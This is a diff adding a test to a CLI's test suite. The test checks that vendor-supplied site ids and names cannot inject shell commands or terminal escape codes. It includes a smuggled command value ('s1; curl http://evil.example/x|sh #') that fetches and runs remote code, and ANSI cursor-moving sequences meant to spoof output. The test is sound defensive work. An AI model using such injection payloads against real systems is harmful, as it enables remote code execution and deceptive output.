@@ -69,6 +69,19 @@ test("onboards, binds, syncs, rotates and lists a vendor", async () => {
   expect(failed.stdout).toMatch(/^failed, 0 devices: .*404/);
 });
 
+test("a vendor's ids and names cannot write commands or move the cursor", async () => {
+  const hostile = await startVendor();
+  hostile.sites = [
+    { site_id: "s1; curl http://evil.example/x|sh #", org_id: "org", name: "\u001b[1A\u001b[2K\rAll bound" },
+  ];
+  hostile.devices = [listed("cam-1", { site_id: "s1; curl http://evil.example/x|sh #" })];
+  await run(["integration", "add", "hostile", hostile.baseUrl], { VENDOR_API_KEY: hostile.apiKey });
+  const { stdout } = await run(["quarantine"]);
+  expect(stdout).toContain("--site 's1; curl http://evil.example/x|sh #'");
+  for (const control of ["\u001b", "\r"]) expect(stdout).not.toContain(control);
+  await hostile.close();
+});
+
 test("creates, lists and revokes tokens", async () => {
   const { token, token_id } = await json(["token", "create", "a reader"]);
   expect((await run(["token", "list"])).stdout).toContain(`${token_id}  read  a reader`);
